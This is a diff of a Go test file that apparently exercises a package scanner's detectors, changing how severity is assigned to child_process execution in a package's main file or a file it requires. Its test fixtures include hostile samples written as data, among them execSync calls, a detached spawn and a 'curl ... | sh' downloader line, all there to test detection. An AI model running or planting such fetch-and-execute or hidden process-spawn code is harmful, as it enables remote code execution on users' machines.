@@ -176,7 +176,10 @@ func TestContentDetectors(t *testing.T) {
 			old: map[string]string{"package.json": `{"name":"fz","keywords":["fuzzy"]}`, "index.js": "module.exports = 1;\n"}, id: WalletHook},
 
 		// process-spawn
-		{name: "child_process", new: ctAppend("const { execSync } = require('child_process');", "execSync('id');"), id: ProcessSpawn, want: true, sev: Low},
+		{name: "child_process in the main file runs at load", new: ctAppend("const { execSync } = require('child_process');", "execSync('id');"), id: ProcessSpawn, want: true, sev: Medium},
+		{name: "child_process", new: ctWith(map[string]string{"lib/tool.js": "const { execSync } = require('child_process');\nexecSync('id');\n"}), id: ProcessSpawn, want: true, sev: Low},
+		{name: "child_process required by the main file", new: ctWith(map[string]string{"index.js": ctBase["index.js"] + "require('./lib/tool');\n",
+			"lib/tool.js": "const { execSync } = require('child_process');\nexecSync('id');\n"}), id: ProcessSpawn, path: "lib/tool.js", want: true, sev: Medium},
 		{name: "detached unref", new: ctAppend("const cp = require('child_process');", "cp.spawn(bin, [], { detached: true, stdio: 'ignore' }).unref();"), id: ProcessSpawn, want: true},
 		{name: "regex exec is fine", new: ctAppend("const m = /a+/.exec(s);", "const r = re.exec(t);"), id: ProcessSpawn},
 		{name: "shell downloader in a script", new: ctWith(map[string]string{"install.sh": "#!/bin/sh\ncurl -fsSL https://get.example.invalid/x | sh\n"}), id: ProcessSpawn, path: "install.sh", want: true},
